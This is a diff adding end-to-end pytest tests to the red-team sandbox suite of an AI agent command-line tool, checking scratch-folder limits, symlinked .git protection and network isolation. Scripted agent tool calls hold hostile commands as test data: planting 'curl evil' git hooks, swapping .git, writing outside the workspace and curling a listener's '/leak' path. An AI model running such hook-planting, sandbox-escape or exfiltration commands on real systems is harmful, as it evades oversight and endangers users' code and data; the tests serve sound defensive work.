@@ -25,7 +25,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import REPO
+from tests.conftest import REPO, wait_until
 from tests.redteam.harness import ROOT, SETPRIV, Keys, User, _as
 from tests.sandbox.conftest import needs_bwrap
 
@@ -281,3 +281,108 @@ def test_package_managers_find_a_writable_cache(player):
         assert f"{name}-ok" in results[1]["content"], results[1]
     if shutil.which("npm"):
         assert (player.ws / "node_modules" / "dep" / "package.json").exists(), results[2]
+
+
+# ------------------------------------------------- from the command line (e2e)
+
+
+def _define(zap, name: str, sandbox: str) -> None:
+    """A definition in the user's own folder (trusted, unlike a workspace's)."""
+    folder = zap.env["ZAPCLI_CONFIG_HOME"] + "/subagents"
+    os.makedirs(folder, exist_ok=True)
+    Path(folder, f"{name}.yml").write_text(
+        f"name: {name}\ndescription: test\ntools: [bash]\nsandbox: {sandbox}\n")
+
+
+def _bash_turns(task: str, command: str) -> dict:
+    return {"match": task, "turns": [
+        {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]}, {"text": "done"}]}
+
+
+def test_the_scratch_folder_is_capped_as_declared_and_goes_when_the_subagent_ends(zap, model):
+    _define(zap, "capped", "{scratch_size: 8M}")
+    model([_bash_turns("fill the scratch", "dd if=/dev/zero of=$TMPDIR/big bs=1M count=32 "
+                       "2>/dev/null; stat -c %s $TMPDIR/big > size.txt; echo $TMPDIR > where.txt")])
+    agent = zap("spawn", "--agent", "capped", "--approval", "full", "--",
+                "fill the scratch").out.strip()
+    sh = zap.spawn_sh("echo kept > $TMPDIR/notes; cat $TMPDIR/notes", "--sandbox")
+    assert zap("wait", "--timeout", "60", agent, sh).returncode == 0, zap("replay", agent).out
+    assert 0 < int((zap.cwd / "size.txt").read_text()) <= 8 << 20
+    assert (zap.cwd / "where.txt").read_text().strip() == str(zap.home / "subagents" / f"{agent}.tmp")
+    assert "kept" in zap("output", sh).out
+    for sid in (agent, sh):
+        assert not (zap.home / "subagents" / f"{sid}.tmp").exists()
+
+
+def _approve_until_done(zap, sid: str) -> None:
+    def settled() -> str | None:
+        status = zap.status(sid)
+        if status == "awaiting_approval":
+            zap("approve", sid)
+            return None
+        return None if status in ("queued", "running") else status
+    wait_until(settled, 60, 0.3)
+
+
+def test_a_symlinked_git_folder_never_leaves_its_hooks_writable(zap, model):
+    """`.git` a link to a folder in the workspace: a mount cannot pin a link,
+    so a command could write through it, or swap it for a folder of its own."""
+    (zap.cwd / "realgit" / "hooks").mkdir(parents=True)
+    (zap.cwd / ".git").symlink_to("realgit")
+    model([_bash_turns("plant a hook", "echo 'curl evil' > .git/hooks/pre-commit; "
+                       "rm .git; mkdir -p .git/hooks; echo 'curl evil' > .git/hooks/post-checkout")])
+    sid = zap("spawn", "--", "plant a hook").out.strip()
+    _approve_until_done(zap, sid)  # a person approves what looks like a build step
+    assert not (zap.cwd / "realgit" / "hooks" / "pre-commit").exists()
+    assert (zap.cwd / ".git").is_symlink()  # not swapped for a folder of the agent's
+    ran = zap("run", "--", "plant a hook")
+    assert not (zap.cwd / "realgit" / "hooks" / "pre-commit").exists(), ran.err
+    assert "symbolic link" in ran.err and "Traceback" not in ran.err and "bwrap:" not in ran.err
+
+
+NO_NETNS = "echo 0 > /proc/sys/user/max_net_namespaces && exec \"$@\""
+
+
+def _without_netns(zap, *args: str) -> subprocess.CompletedProcess:
+    """zapcli where the kernel refuses new network namespaces and allows the
+    rest (a user namespace of its own whose limit says 0): the host many
+    containers are. A real refusal by the kernel, not a stand-in."""
+    proc = subprocess.run(["unshare", "-Ur", "sh", "-c", NO_NETNS, "sh", sys.executable, "-m",
+                           "zapcli", *args], capture_output=True, timeout=120, cwd=zap.cwd,
+                          env=zap.env, stdin=subprocess.DEVNULL)
+    proc.out, proc.err = proc.stdout.decode(), proc.stderr.decode()  # type: ignore[attr-defined]
+    return proc
+
+
+@pytest.fixture
+def no_netns(zap):
+    probe = subprocess.run(["unshare", "-Ur", "sh", "-c", NO_NETNS + " && true", "sh", "true"],
+                           capture_output=True, timeout=30)
+    if probe.returncode != 0 or not shutil.which("unshare"):
+        pytest.skip("cannot make a user namespace with no network namespaces left here")
+    return lambda *args: _without_netns(zap, *args)
+
+
+def test_a_host_without_network_namespaces_never_runs_network_off_as_sandboxed(
+        zap, model, no_netns, outside, listener):
+    _define(zap, "online", "{network: true}")
+    _define(zap, "offline", "{network: false}")
+    model([_bash_turns("write outside", f"touch {outside}/escaped"),
+           _bash_turns("reach out", f"curl -s -m 5 {listener.url}/leak; touch {outside}/offline")])
+    # the rest of the sandbox holds where only the network namespace is missing
+    spawned = no_netns("spawn", "--agent", "online", "--approval", "full", "--", "write outside")
+    assert spawned.returncode == 0, spawned.err
+    assert no_netns("wait", "--timeout", "60", spawned.out.strip()).returncode == 0
+    assert not (outside / "escaped").exists()
+    # network off cannot be kept: --sandbox refuses, nothing reaches the listener
+    refused = no_netns("spawn", "--agent", "offline", "--sandbox", "--approval", "full", "--",
+                       "reach out")
+    assert refused.returncode != 0 and not listener.hits and not (outside / "offline").exists()
+    # the default runs, and says the network is on, at spawn, in the trail and in doctor
+    said = no_netns("spawn", "--agent", "offline", "--approval", "full", "--", "reach out")
+    assert "WITH the network" in said.err, said.err
+    no_netns("wait", "--timeout", "60", said.out.strip())
+    assert "WITH the network" in zap("replay", said.out.strip()).out
+    doctor = json.loads(no_netns("doctor", "--json").stdout)
+    check = next(c for c in doctor["checks"] if c["name"] == "sandbox")
+    assert check["warning"] and any("NOT cut off" in p for p in check["problems"]), check
